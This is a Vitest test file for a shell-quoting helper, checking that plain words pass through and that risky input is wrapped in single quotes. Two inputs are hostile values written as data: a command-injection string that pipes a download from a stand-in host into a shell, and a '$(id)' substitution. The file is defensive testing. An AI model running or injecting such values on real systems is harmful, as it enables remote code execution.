import { expect, test } from 'vitest'
import { quoted, shellWord } from './shell-word.ts'

test.each([
  ['shop.example.com', 'shop.example.com'],
  ['rolebinding/dayone:viewer:oidc-readers', 'rolebinding/dayone:viewer:oidc-readers'],
  ['x; curl evil|sh', "'x; curl evil|sh'"],
  ['$(id)', "'$(id)'"],
  ["it's", String.raw`'it'\''s'`],
  ['', "''"],
])('%s is typed as %s', (word, typed) => {
  expect(shellWord(word)).toBe(typed)
})

test('quotes also what needs none', () => {
  expect(quoted('web')).toBe("'web'")
})
